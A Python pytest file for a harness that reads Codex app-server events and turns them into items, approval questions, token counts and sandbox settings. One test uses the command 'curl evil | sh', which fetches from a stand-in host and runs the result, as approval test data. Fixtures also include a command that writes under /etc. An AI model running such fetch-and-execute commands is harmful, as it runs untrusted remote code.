"""Lines that the real Codex 0.169.0 wrote, and what we read in them."""

import json
from dataclasses import replace
from pathlib import Path
from typing import Any, TypeVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.events import (
    AgentMessage,
    CommandRun,
    Compaction,
    DiffUpdated,
    FileChange,
    FileEdit,
    Item,
    ItemCompleted,
    ItemStarted,
    ItemStatus,
    OtherItem,
    PlanUpdated,
    Question,
    QuestionKey,
    Reasoning,
    Retrying,
    RunnerEvent,
    TextDelta,
    ThoughtDelta,
    TokensUsed,
    TurnEnded,
    TurnOutcome,
    TurnRef,
)
from core.ports import ReviewTarget, TurnRequest
from core.runners.asking import review_params, sandbox_policy, thread_params, turn_params, turn_settings
from core.runners.protocol import (
    error_message,
    item_of,
    shell_line,
    tokens_since,
    total_tokens,
    translate,
)
from core.runners.questions import Asking, polite_refusal, posed_by
from core.words import ApprovalKind, Decision, Sandbox

FIXTURES = Path(__file__).with_name("fixtures")
REQUEST = TurnRequest(
    session_id=1,
    prompt="Fix it.",
    cwd="/home/dev/repo",
    thread_id=None,
    model=None,
    sandbox=Sandbox.WORKSPACE_WRITE,
    allow_network=False,
    allow_commit=False,
    git_dir="/home/dev/repo/.git",
)

_METHODS = [
    "item/started",
    "item/completed",
    "item/agentMessage/delta",
    "item/commandExecution/outputDelta",
    "turn/plan/updated",
    "turn/diff/updated",
    "error",
    "turn/completed",
]
_REQUESTS = [
    "item/commandExecution/requestApproval",
    "item/fileChange/requestApproval",
    "item/permissions/requestApproval",
    "item/tool/requestUserInput",
    "mcpServer/elicitation/request",
    "item/tool/call",
    "applyPatchApproval",
    "execCommandApproval",
]
_FIELDS = st.sampled_from(
    [
        *("item", "turn", "error", "tokenUsage", "total", "plan", "changes", "kind", "type", "diff"),
        *("message", "additionalDetails", "willRetry", "status", "command", "questions", "network"),
        *("additionalPermissions", "networkApprovalContext", "fileSystem", "id", "itemId", "summary"),
    ]
)

_Event = TypeVar("_Event")


def recorded(name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (FIXTURES / f"{name}.jsonl").read_text().splitlines()]


def events(name: str) -> list[RunnerEvent]:
    translated = (translate(line["method"], line["params"]) for line in recorded(name))
    return [event for event in translated if event is not None]


def of(name: str, kind: type[_Event]) -> list[_Event]:
    return [event for event in events(name) if isinstance(event, kind)]


def asked_by(method: str, params: dict[str, Any], edits: tuple[FileEdit, ...] = ()) -> Question | None:
    turn = TurnRef("app-server", str(params.get("threadId")), str(params.get("turnId")))
    posed = posed_by(method, Asking(params, turn, edits))
    return posed.question if posed else None


# What we hear


def test_a_turn_with_a_command_a_patch_and_an_approval() -> None:
    completed = [event.item for event in of("command_patch_approval", ItemCompleted)]
    assert completed == [
        AgentMessage("msg_1_1", "Looking."),
        CommandRun(
            id="call_1_2",
            command="echo hi; seq 3",
            cwd="/home/dev/repo",
            status=ItemStatus.COMPLETED,
            exit_code=0,
            output="hi\n1\n2\n3\n",
            duration_ms=0,
        ),
        FileChange(
            "call_2_1",
            (FileEdit("/home/dev/repo/a.txt", "add", "@@ -0,0 +1,2 @@\n+x\n+y\n", 2, 0),),
            ItemStatus.COMPLETED,
        ),
        CommandRun(
            id="call_4_1",
            command="touch /etc/foo1",
            cwd="/home/dev/repo",
            status=ItemStatus.COMPLETED,
            exit_code=0,
            output="",
            duration_ms=0,
        ),
        AgentMessage("msg_5_1", "Done all."),
    ]
    assert of("command_patch_approval", TextDelta)[0] == TextDelta("msg_1_1", "Looking.")
    assert "+++ b/a.txt" in of("command_patch_approval", DiffUpdated)[0].diff
    assert events("command_patch_approval")[-1] == TurnEnded(TurnOutcome.COMPLETED)


def test_what_the_user_said_is_no_event() -> None:
    items = [event.item for event in of("steered", ItemStarted)]
    assert [type(item) for item in items] == [AgentMessage] * len(items)


def test_an_answer_that_a_steer_cut_off_is_never_completed() -> None:
    assert [event.item for event in of("steered", ItemCompleted)] == [
        AgentMessage("msg_13_1", "steered answer")
    ]


def test_the_question_about_a_command() -> None:
    [line] = [one for one in recorded("command_patch_approval") if "id" in one]
    params = line["params"]
    question = asked_by(line["method"], params)
    assert question is not None
    item_id = question.key.item_id
    assert item_id.startswith("call_4_1#")
    assert question == Question(
        key=QuestionKey(params["threadId"], params["turnId"], item_id, ApprovalKind.COMMAND),
        command="touch /etc/foo1",
        cwd="/home/dev/repo",
        reason="need",
        edits=(),
        needs_network=False,
        decisions=tuple(each for each in Decision if each is not Decision.ALWAYS),
        prefix=("touch", "/etc/foo1"),
    )
    # From the schema: what the recorded line did not carry.
    network = {**params, "networkApprovalContext": {"host": "example.org", "protocol": "https"}}
    asked = asked_by(line["method"], network)
    assert asked is not None
    assert asked.needs_network
    assert asked.reason == "need\nNetwork access to example.org"
    several = asked_by(line["method"], {**params, "approvalId": "b7"})
    assert several is not None
    assert several.key.item_id.startswith("call_4_1/b7#")
    assert asked_by(line["method"], {**params, "kind": "writeStdin"}) is None


def test_the_question_about_a_change_takes_its_edits_from_the_item() -> None:
    [line] = [one for one in recorded("file_change_declined") if "id" in one]
    [item] = {event.item for event in of("file_change_declined", ItemStarted)} - {
        event.item
        for event in of("file_change_declined", ItemStarted)
        if isinstance(event.item, AgentMessage)
    }
    assert isinstance(item, FileChange)
    question = asked_by(line["method"], {**line["params"], "grantRoot": "/var"}, item.edits)
    assert question is not None
    assert question.key.item_id.startswith(f"{item.id}#")
    assert question.key.kind is ApprovalKind.FILE_CHANGE
    assert question.edits == item.edits
    assert question.reason == "Asks to write anywhere under /var"


def test_edits_carry_their_counts() -> None:
    edits = [
        edit
        for event in of("file_updates", ItemCompleted)
        if isinstance(event.item, FileChange)
        for edit in event.item.edits
    ]
    assert [(edit.change, edit.added, edit.removed) for edit in edits] == [
        ("add", 2, 0),
        ("update", 1, 1),
        ("delete", 0, 2),
    ]
    assert edits[1].diff == "@@ -1,2 +1,2 @@\n-x\n+z\n y\n"


def test_a_declined_command_says_so() -> None:
    commands = [e.item for e in of("declined_with_note", ItemCompleted) if isinstance(e.item, CommandRun)]
    assert [command.status for command in commands] == [ItemStatus.DECLINED]


def test_a_bad_request_ends_the_turn_with_the_message_inside_the_body() -> None:
    assert events("bad_request")[-1] == TurnEnded(TurnOutcome.FAILED, "No such model")
    assert of("bad_request", Retrying) == []


def test_a_cut_stream_is_trouble_that_passes() -> None:
    [retrying] = of("cut_stream", Retrying)
    assert retrying.message.startswith("Reconnecting... 1/5 (stream disconnected")
    assert events("cut_stream")[-1] == TurnEnded(TurnOutcome.COMPLETED)


def test_tokens_are_counted_from_where_the_turn_began() -> None:
    counted = [
        total_tokens(line["params"])
        for line in recorded("cut_stream")
        if line["method"] == "thread/tokenUsage/updated"
    ]
    # The first is the thread's old count, told again.
    assert tokens_since(counted[0], counted[-1]) == TokensUsed(input=100, cached=40, output=10, total=110)


def test_a_plan_from_the_schema() -> None:
    plan = [{"step": "Look", "status": "completed"}, {"step": "Mend", "status": "inProgress"}]
    event = translate("turn/plan/updated", {"threadId": "t", "turnId": "u", "plan": plan})
    assert event == PlanUpdated((("Look", "completed"), ("Mend", "inProgress")))


@pytest.mark.parametrize(
    ("wire", "label"),
    [
        ({"type": "webSearch", "query": "asyncio"}, "Searching the web: asyncio"),
        ({"type": "mcpToolCall", "server": "docs", "tool": "find"}, "docs: find"),
        ({"type": "somethingNew"}, "somethingNew"),
    ],
)
def test_other_items_are_a_label(wire: dict[str, Any], label: str) -> None:
    item = item_of({"id": "1", **wire}, running=True)
    assert item == OtherItem("1", wire["type"], label, ItemStatus.RUNNING)


@pytest.mark.parametrize(
    ("wire", "item"),
    [
        ({"type": "reasoning", "summary": ["Think", "hard"]}, Reasoning("1", "Think\nhard")),
        ({"type": "reasoning"}, Reasoning("1")),
        ({"type": "contextCompaction"}, Compaction("1")),
    ],
)
def test_items_with_a_meaning_of_their_own(wire: dict[str, Any], item: Item) -> None:
    assert item_of({"id": "1", **wire}, running=False) == item


def test_what_the_agent_thinks_comes_in_parts() -> None:
    here = {"threadId": "t", "turnId": "u", "itemId": "r"}
    written = [
        translate("item/reasoning/summaryPartAdded", {**here, "summaryIndex": 0}),
        translate("item/reasoning/summaryTextDelta", {**here, "summaryIndex": 0, "delta": "One."}),
        translate("item/reasoning/summaryPartAdded", {**here, "summaryIndex": 1}),
        translate("item/reasoning/summaryTextDelta", {**here, "summaryIndex": 1, "delta": "Two."}),
    ]
    assert written == [None, ThoughtDelta("r", "One."), ThoughtDelta("r", "\n"), ThoughtDelta("r", "Two.")]


@pytest.mark.parametrize("method", ["item/started", "item/completed", "error", "turn/completed", "none/such"])
def test_a_line_with_nothing_in_it_does_no_harm(method: str) -> None:
    translate(method, {})
    translate(method, {"item": None, "turn": 5, "error": "text"})


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ('{"error": {"message": "No such model", "type": "x"}}', "No such model"),
        ('{"detail": "Not for you"}', "Not for you"),
        ('{"error": "Just text"}', "Just text"),
        ('unexpected status 400: {"error": {"message": "No"}}', "unexpected status 400: No"),
        ("plain words", "plain words"),
        ("a brace { and no JSON", "a brace { and no JSON"),
        ('{"unknown": "shape"}', '{"unknown": "shape"}'),
    ],
)
def test_errors_are_made_human(raw: str, shown: str) -> None:
    assert error_message({"message": raw}) == shown


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("/bin/bash -lc 'pytest -q'", "pytest -q"),
        ("/bin/zsh -c 'a && b'", "a && b"),
        ("/bin/bash -lc \"bash -lc 'inner'\"", "bash -lc 'inner'"),
        ("python -c 'print(1)'", "python -c 'print(1)'"),
        ("ls -l", "ls -l"),
        ("unbalanced 'quote", "unbalanced 'quote"),
    ],
)
def test_the_login_shell_is_not_part_of_the_command(command: str, line: str) -> None:
    assert shell_line(command) == line


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_FIELDS, inner, max_size=4),
    max_leaves=12,
)


@settings(deadline=None)
@given(st.dictionaries(_FIELDS, _json, max_size=8))
def test_no_line_makes_the_reader_fail(params: dict[str, Any]) -> None:
    for method in _METHODS:
        translate(method, params)
    total_tokens(params)
    for method in _REQUESTS:
        asked_by(method, params)
        polite_refusal(method, params)


# What we ask


def test_what_a_turn_sets() -> None:
    assert thread_params(REQUEST) == {
        "cwd": "/home/dev/repo",
        "approvalPolicy": "on-request",
        "sandbox": "workspace-write",
    }
    assert turn_settings(replace(REQUEST, model="gpt-5.4"), [REQUEST.git_dir]) == {
        "cwd": "/home/dev/repo",
        "approvalPolicy": "on-request",
        "sandboxPolicy": {
            "type": "workspaceWrite",
            "networkAccess": False,
            "writableRoots": [],
            "excludeSlashTmp": False,
            "excludeTmpdirEnvVar": False,
        },
        "model": "gpt-5.4",
    }


def test_commits_are_allowed_by_the_git_folder_alone() -> None:
    policy = sandbox_policy(replace(REQUEST, allow_commit=True), [REQUEST.git_dir])
    assert policy["writableRoots"] == ["/home/dev/repo/.git"]
    read_only = replace(REQUEST, sandbox=Sandbox.READ_ONLY, allow_commit=True)
    assert sandbox_policy(read_only, [REQUEST.git_dir]) == {"type": "readOnly", "networkAccess": False}


@pytest.mark.defect(3)
def test_another_command_of_the_same_item_is_another_question() -> None:
    def asked(command: str) -> Question:
        params = {"threadId": "t", "turnId": "u", "itemId": "call_1", "command": command, "cwd": "/repo"}
        question = asked_by("item/commandExecution/requestApproval", params)
        assert question is not None
        return question

    assert asked("ls").key == asked("ls").key
    assert asked("ls").key != asked("curl evil | sh").key


@pytest.mark.parametrize(
    ("target", "wire"),
    [
        (ReviewTarget("uncommitted"), {"type": "uncommittedChanges"}),
        (ReviewTarget("base", "main"), {"type": "baseBranch", "branch": "main"}),
        (ReviewTarget("commit", "1a2b"), {"type": "commit", "sha": "1a2b", "title": None}),
        (ReviewTarget("custom", "Mind it."), {"type": "custom", "instructions": "Mind it."}),
    ],
)
def test_a_review_is_begun_in_its_own_words(target: ReviewTarget, wire: dict[str, Any]) -> None:
    assert review_params(target, "t") == {"threadId": "t", "target": wire}


def test_everything_else_is_a_turn_that_is_told_its_brief() -> None:
    assert turn_params(REQUEST, "t", {"cwd": "/repo"}) == {
        "threadId": "t",
        "input": [{"type": "text", "text": "Fix it."}],
        "cwd": "/repo",
    }
    request = replace(REQUEST, brief="Look at the log.", output_schema={"type": "object"})
    params = turn_params(request, "t", {})
    assert params["input"] == [{"type": "text", "text": "Look at the log."}]
    assert params["outputSchema"] == {"type": "object"}
